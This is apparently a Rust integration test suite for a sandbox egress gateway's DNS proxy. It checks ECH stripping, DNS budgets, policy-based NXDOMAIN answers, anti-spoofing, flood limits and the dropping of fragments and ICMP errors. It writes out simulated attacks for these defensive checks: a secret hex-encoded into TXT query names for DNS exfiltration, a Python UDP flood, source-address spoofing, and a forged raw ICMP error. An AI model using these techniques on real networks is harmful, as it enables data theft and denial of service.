//! What the DNS proxy lets leave, seen from a sandbox behind the real
//! redirect and counted at the fake internet's DNS server (issue 26): `ech`
//! cut out of HTTPS answers, a TXT exfiltration loop stopped by the
//! sandbox's budget, and names the policy denies answered NXDOMAIN without
//! a packet upstream.

use egress_integration::{DNS_IP, ECH_NAME, EXFIL_ZONE};

use crate::topology::*;

/// Sets up a topology, or returns from the test when it cannot run here.
macro_rules! topology {
    () => {{
        if !available() {
            return;
        }
        Topology::new()
    }};
}

/// The resolver and nothing else; no `dns` section.
const RESOLVER_ONLY: &str = r#"{"default": "deny", "allow": [{"ip": "8.8.8.8"}]}"#;

/// dig through the gateway (8.8.8.8) from `ns`: the answer's status
/// (`NOERROR`, `REFUSED`, …) and dig's whole output.
fn dig_status(t: &Topology, ns: &str, name: &str, qtype: &str) -> (String, String) {
    let out = t.exec(ns, "dig", &["+time=3", "+tries=1", "@8.8.8.8", name, qtype]);
    let text = String::from_utf8_lossy(&out.stdout).into_owned();
    let status = text
        .split("status: ")
        .nth(1)
        .and_then(|s| s.split(',').next())
        .unwrap_or("no answer")
        .to_owned();
    (status, text)
}

/// The queries the fake internet's DNS server received, by name.
fn upstream_counts(t: &Topology) -> serde_json::Value {
    let url = format!("http://{DNS_IP}/_dns_counts");
    let (status, body) = t.http_in_gw("GET", &url, &[], None);
    assert_eq!(status, 200, "{url}: {body}");
    serde_json::from_str(&body).expect("dns counts")
}

/// Queries the fake DNS server received for `name`.
fn upstream_count(t: &Topology, name: &str) -> u64 {
    upstream_counts(t)[name].as_u64().unwrap_or(0)
}

/// Queries the fake DNS server received for names under `zone`.
fn upstream_under(t: &Topology, zone: &str) -> u64 {
    let suffix = format!(".{zone}");
    upstream_counts(t)
        .as_object()
        .expect("an object")
        .iter()
        .filter(|(name, _)| name.ends_with(&suffix))
        .filter_map(|(_, n)| n.as_u64())
        .sum()
}

/// One series of the gateway's scrape (`name` with its labels, if any).
fn metric(t: &Topology, series: &str) -> u64 {
    let (status, text) = t.admin("GET", "/metrics", None);
    assert_eq!(status, 200);
    let prefix = format!("{series} ");
    text.lines()
        .find_map(|l| l.strip_prefix(prefix.as_str()))
        .and_then(|v| v.trim().parse().ok())
        .unwrap_or_else(|| panic!("no {series} in the scrape"))
}

#[test]
fn ech_is_cut_out_of_https_answers() {
    let t = topology!();
    t.push("sb1", SB1_IP, RESOLVER_ONLY);
    // The fake internet publishes it, asked from its own namespace.
    let at = format!("@{DNS_IP}");
    let out = t.exec(
        &t.inet,
        "dig",
        &["+short", "+time=3", &at, "TYPE65", ECH_NAME],
    );
    let published = String::from_utf8_lossy(&out.stdout).into_owned();
    assert!(
        published.contains("ech=") && published.contains("mandatory=alpn,ech"),
        "the zone publishes ech: {published}"
    );
    let before = metric(&t, "egress_dns_ech_stripped_total");
    for tcp in [false, true] {
        let mut args = vec![
            "+short", "+time=3", "+tries=1", "@8.8.8.8", "TYPE65", ECH_NAME,
        ];
        if tcp {
            args.push("+tcp");
        }
        let out = t.exec(&t.sb1, "dig", &args);
        let seen = String::from_utf8_lossy(&out.stdout).into_owned();
        assert!(
            seen.contains(r#"alpn="h2""#) && seen.contains("ipv4hint=203.0.113.10"),
            "the other parameters stay (tcp: {tcp}): {seen:?}"
        );
        assert!(
            seen.contains("mandatory=alpn") && !seen.contains("ech"),
            "the sandbox never sees ech (tcp: {tcp}): {seen:?}"
        );
    }
    let after = metric(&t, "egress_dns_ech_stripped_total");
    assert_eq!(after - before, 2, "two answers rewritten");
}

#[test]
fn a_txt_exfiltration_loop_stops_at_the_budget() {
    let t = topology!();
    t.push(
        "sb1",
        SB1_IP,
        r#"{"default": "deny", "allow": [{"ip": "8.8.8.8"}],
            "dns": {"budget": {"new_names_per_minute": 4}}}"#,
    );
    t.push("sb2", SB2_IP, RESOLVER_ONLY);
    // A secret, hex-encoded, ten characters a name: every name is new.
    let secret: String = b"the database password is hunter2; the deploy key is 0123456789"
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect();
    let chunks: Vec<&str> = (0..secret.len())
        .step_by(10)
        .map(|i| &secret[i..(i + 10).min(secret.len())])
        .take(12)
        .collect();
    let statuses: Vec<String> = chunks
        .iter()
        .enumerate()
        .map(|(i, c)| dig_status(&t, &t.sb1, &format!("{i}-{c}.{EXFIL_ZONE}"), "TXT").0)
        .collect();
    assert_eq!(chunks.len(), 12);
    let mut expected = vec!["NOERROR"; 4];
    expected.resize(12, "REFUSED");
    assert_eq!(statuses, expected, "the budget holds four new names");
    assert_eq!(upstream_under(&t, EXFIL_ZONE), 4, "only those left");
    assert_eq!(
        metric(&t, r#"egress_dns_events_total{outcome="dns_budget"}"#),
        8
    );
    // A name it asked already spends a query token, not a new-name one.
    let first = format!("0-{}.{EXFIL_ZONE}", chunks[0]);
    let (status, out) = dig_status(&t, &t.sb1, &first, "TXT");
    assert_eq!(status, "NOERROR", "{out}");
    assert_eq!(upstream_count(&t, &first), 2);
    // The other sandbox's budget is its own.
    assert!(t
        .dig(&t.sb2, "api.example.test", false)
        .contains("203.0.113.10"));
    let theirs = format!("sb2.{EXFIL_ZONE}");
    let (status, out) = dig_status(&t, &t.sb2, &theirs, "TXT");
    assert_eq!(status, "NOERROR", "{out}");
    assert_eq!(upstream_count(&t, &theirs), 1);
    let log = std::fs::read_to_string(t.path("gateway.log")).unwrap_or_default();
    assert_eq!(
        log.matches("dns_budget").count(),
        1,
        "one warning when the budget is crossed: {log}"
    );
}

#[test]
fn resolve_policy_answers_denied_names_itself() {
    let t = topology!();
    // Default allow: the denied name is NXDOMAIN, any other name resolves.
    t.push(
        "sb1",
        SB1_IP,
        r#"{"default": "allow", "deny": [{"domain": "blocked.example.test"}],
            "dns": {"resolve": "policy"}}"#,
    );
    let (status, out) = dig_status(&t, &t.sb1, "blocked.example.test", "A");
    assert_eq!(status, "NXDOMAIN", "{out}");
    assert!(t
        .dig(&t.sb1, "plain.example.test", false)
        .contains("198.51.100.20"));
    // Default deny: only the names an allow covers resolve.
    t.push(
        "sb1",
        SB1_IP,
        r#"{"default": "deny", "allow": [{"ip": "8.8.8.8"}, {"domain": "api.example.test"}],
            "deny": [{"domain": "blocked.example.test"}], "dns": {"resolve": "policy"}}"#,
    );
    for name in ["blocked.example.test", "other.example.test"] {
        for qtype in ["A", "AAAA"] {
            let (status, out) = dig_status(&t, &t.sb1, name, qtype);
            assert_eq!(status, "NXDOMAIN", "{name} {qtype}: {out}");
        }
    }
    assert!(t
        .dig(&t.sb1, "api.example.test", false)
        .contains("203.0.113.10"));
    let counts = upstream_counts(&t);
    let seen = |name: &str| counts[name].as_u64().unwrap_or(0);
    assert_eq!(seen("blocked.example.test"), 0, "{counts}");
    assert_eq!(seen("other.example.test"), 0, "{counts}");
    assert_eq!(seen("plain.example.test"), 1, "{counts}");
    assert_eq!(seen("api.example.test"), 1, "{counts}");
}

/// What the gateway knows of sandbox `id`'s names for `ip` (explain's
/// `attributed`).
fn attributed(t: &Topology, id: &str, ip: &str) -> serde_json::Value {
    let doc = format!(r#"{{"sandbox": "{id}", "dst": "{ip}:443"}}"#);
    let (status, body) = t.admin("POST", "/v1/explain", Some(&doc));
    assert_eq!(status, 200, "{body}");
    let v: serde_json::Value = serde_json::from_str(&body).expect("json");
    v["attributed"].clone()
}

/// On its own interface, a sandbox can send only from the addresses routed
/// to that interface: a query from sb1 under sb2's address is dropped
/// before the gateway. It was answered (to sb2) and attributed to sb2
/// before: sb1 could spend sb2's DNS budget and give it names.
#[test]
fn a_sandbox_cannot_send_as_another() {
    let t = topology!();
    let allow =
        r#"{"default": "deny", "allow": [{"ip": "8.8.8.8"}, {"domain": "api.example.test"}]}"#;
    t.push("sb1", SB1_IP, allow);
    t.push("sb2", SB2_IP, allow);
    let out = t.exec(
        &t.sb1,
        "ip",
        &["addr", "add", &format!("{SB2_IP}/32"), "dev", "eth0"],
    );
    assert!(out.status.success(), "{out:?}");
    let _ = t.exec(
        &t.sb1,
        "dig",
        &[
            "+time=2",
            "+tries=1",
            "-b",
            SB2_IP,
            "@8.8.8.8",
            "api.example.test",
        ],
    );
    assert_eq!(
        attributed(&t, "sb2", "203.0.113.10"),
        serde_json::json!([]),
        "sb1's query under sb2's address reached the gateway"
    );
    // Its own address still works.
    assert!(t
        .dig(&t.sb1, "api.example.test", false)
        .contains("203.0.113.10"));
    assert_eq!(
        attributed(&t, "sb1", "203.0.113.10"),
        serde_json::json!(["api.example.test"])
    );
}

/// A flood of DNS datagrams from one sandbox is dropped by its interface's
/// redirect rules past the most a DNS budget gives a second
/// (`dns.budget_max_qps`, 20 here): the proxy, whose socket every sandbox
/// shares, never reads it. The other sandbox resolves meanwhile, and the
/// flooder again once its second is over.
#[test]
fn a_dns_flood_from_one_sandbox_is_dropped_at_its_interface() {
    let t = topology!();
    t.push("sb1", SB1_IP, RESOLVER_ONLY);
    t.push("sb2", SB2_IP, RESOLVER_ONLY);
    let config = t.path("dns-rate.toml");
    std::fs::write(&config, "[dns]\nbudget_qps = 20\nbudget_max_qps = 20\n").expect("config");
    let out = t.exec(
        &t.gw,
        bin("egress-gateway").to_str().expect("utf-8"),
        &[
            "redirect",
            "--sandbox-iface",
            "sb1",
            "--apply",
            "--config",
            config.to_str().expect("utf-8"),
        ],
    );
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    // 500 queries for names of their own, sent as fast as they go.
    let flood = r#"
import socket, struct
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for i in range(500):
    name = b"".join(bytes([len(l)]) + l for l in [b"n%d" % i, b"flood", b"example", b"test"]) + b"\0"
    s.sendto(struct.pack(">HHHHHH", i, 0x0100, 1, 0, 0, 0) + name + struct.pack(">HH", 1, 1), ("8.8.8.8", 53))
"#;
    let out = t.exec(&t.sb1, "python3", &["-c", flood]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let dropped = t.rule_count("egress_gw_sb1", "update @dns_rate4");
    assert!(dropped >= 300, "{dropped} of 500 dropped");
    // What passed reached the proxy and the upstream; the rest never did.
    std::thread::sleep(std::time::Duration::from_millis(500));
    let asked = upstream_under(&t, "flood.example.test");
    assert!(asked <= 200, "{asked} of 500 reached the upstream");
    assert_eq!(
        dig_status(&t, &t.sb2, "a.relay.example.test", "A").0,
        "NOERROR"
    );
    std::thread::sleep(std::time::Duration::from_millis(1_500));
    assert_eq!(
        dig_status(&t, &t.sb1, "a.relay.example.test", "A").0,
        "NOERROR"
    );
}

/// A sandbox's fragments are dropped before connection tracking would
/// reassemble them in memory the whole host shares, and an ICMP error it
/// sends the host (which could end a connection of the host's, the DNS
/// proxy's upstream socket say, whoever sent it) is dropped too: each
/// rule of its interface's table counts what it dropped.
#[test]
fn a_sandboxs_fragments_and_icmp_errors_never_reach_the_host() {
    let t = topology!();
    t.push("sb1", SB1_IP, RESOLVER_ONLY);
    let table = "egress_gw_sb1";
    let v4 = || t.rule_count(table, "ip frag-off & 16383 != 0");
    let v6 = || t.rule_count(table, "exthdr frag exists");
    let icmp = || t.rule_count(table, "icmp type { destination-unreachable");
    let before = (v4(), v6(), icmp());
    let send = r#"
import socket, struct
big = b"x" * 3000
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.setsockopt(socket.IPPROTO_IP, 10, 0)  # IP_MTU_DISCOVER: IP_PMTUDISC_DONT
s.sendto(big, ("8.8.8.8", 53))
s6 = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
s6.sendto(big, ("2001:db8:1::1", 53))
def checksum(b):
    if len(b) % 2:
        b += b"\0"
    n = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    n = (n >> 16) + (n & 0xffff)
    n += n >> 16
    return ~n & 0xffff
# Port unreachable for a datagram from the gateway to 203.0.113.10:53.
inner = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 28, 0, 0, 64, 17, 0,
                    socket.inet_aton("100.64.1.1"), socket.inet_aton("203.0.113.10"))
inner += struct.pack("!HHHH", 40000, 53, 8, 0)
head = struct.pack("!BBHI", 3, 3, 0, 0)
msg = head[:2] + struct.pack("!H", checksum(head + inner)) + head[4:] + inner
r = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
r.sendto(msg, ("100.64.1.1", 0))
"#;
    let out = t.exec(&t.sb1, "python3", &["-c", send]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let after = (v4(), v6(), icmp());
    assert!(
        after.0 >= before.0 + 2,
        "IPv4 fragments: {before:?} → {after:?}"
    );
    assert!(
        after.1 >= before.1 + 2,
        "IPv6 fragments: {before:?} → {after:?}"
    );
    assert!(after.2 > before.2, "the ICMP error: {before:?} → {after:?}");
}
